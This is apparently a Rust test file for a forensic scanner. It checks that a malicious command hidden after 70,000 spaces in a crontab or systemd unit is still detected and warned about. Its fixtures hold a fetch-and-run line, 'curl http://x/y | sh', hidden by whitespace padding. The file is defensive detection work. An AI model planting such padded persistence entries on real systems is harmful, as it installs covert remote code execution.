//! Persistence lines padded past 64 KiB: the command after the padding is still
//! judged, and the long line is a warning naming the file and line (it used to be
//! cut there silently, hiding the command).

// tests: a panic is a failed test
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use breachkit_detect::{Selection, run};
use breachkit_finding::Report;
use breachkit_host::Host;
use std::path::Path;

const PAD: usize = 70_000;
const EVIL: &str = "curl http://x/y | sh";

fn check_persistence(root: &Path) -> Report {
    let host = Host::image(root).unwrap();
    let checks = Selection {
        only: vec!["persistence".into()],
        skip: vec![],
    }
    .resolve()
    .unwrap();
    let (report, failures) = run(&host, &checks, &|_| {});
    assert!(failures.is_empty(), "{failures:?}");
    report
}

fn write(root: &Path, path: &str, content: &str) {
    let p = root.join(path);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, content).unwrap();
}

fn assert_found_and_warned(report: &Report, rule: &str, path: &str, line: u64) {
    assert!(
        report.findings.iter().any(|f| f.rule == rule
            && f.path.as_deref() == Some(path)
            && f.line == Some(line)
            && f.evidence
                .as_deref()
                .is_some_and(|e| e.contains("curl http://x/y") && e.len() < 1000)),
        "{rule} at {path}:{line} not found in {:#?}",
        report.findings
    );
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.path.as_deref() == Some(path)
                && w.message.contains(&format!("line {line} is "))
                && w.message.contains("bytes long")),
        "no warning naming {path} line {line}: {:#?}",
        report.warnings
    );
}

#[test]
fn a_crontab_command_after_70000_blanks_is_found_and_warned() {
    let t = tempfile::tempdir().unwrap();
    let pad = " ".repeat(PAD);
    write(
        t.path(),
        "etc/crontab",
        &format!("SHELL=/bin/sh\n*/5 * * * * root{pad}{EVIL}\n"),
    );
    write(
        t.path(),
        "var/spool/cron/crontabs/www-data",
        &format!("# m h dom mon dow command\n@reboot /bin/true ;{pad}{EVIL}\n"),
    );
    let report = check_persistence(t.path());
    assert_found_and_warned(&report, "cron.suspicious-job", "/etc/crontab", 2);
    assert_found_and_warned(
        &report,
        "cron.suspicious-job",
        "/var/spool/cron/crontabs/www-data",
        2,
    );
}

#[test]
fn a_unit_exec_start_after_70000_blanks_is_found_and_warned() {
    let t = tempfile::tempdir().unwrap();
    let pad = " ".repeat(PAD);
    write(
        t.path(),
        "etc/systemd/system/updater.service",
        &format!(
            "[Unit]\nDescription=updater\n[Service]\nExecStart=/bin/sh -c '{pad}{EVIL}'\n[Install]\nWantedBy=multi-user.target\n"
        ),
    );
    // Padding before the command, and a padded continuation line.
    write(
        t.path(),
        "etc/systemd/system/other.service",
        &format!(
            "[Service]\nExecStart={pad}/bin/true\nExecStartPre=/bin/sh -c \\\n{pad}'{EVIL}'\n"
        ),
    );
    let report = check_persistence(t.path());
    assert_found_and_warned(
        &report,
        "systemd.suspicious-exec",
        "/etc/systemd/system/updater.service",
        4,
    );
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.rule == "systemd.suspicious-exec"
                && f.path.as_deref() == Some("/etc/systemd/system/other.service")
                && f.line == Some(3)),
        "{:#?}",
        report.findings
    );
    assert!(
        report.warnings.iter().any(|w| w.path.as_deref()
            == Some("/etc/systemd/system/other.service")
            && w.message.contains("line 4 is ")),
        "{:#?}",
        report.warnings
    );
}
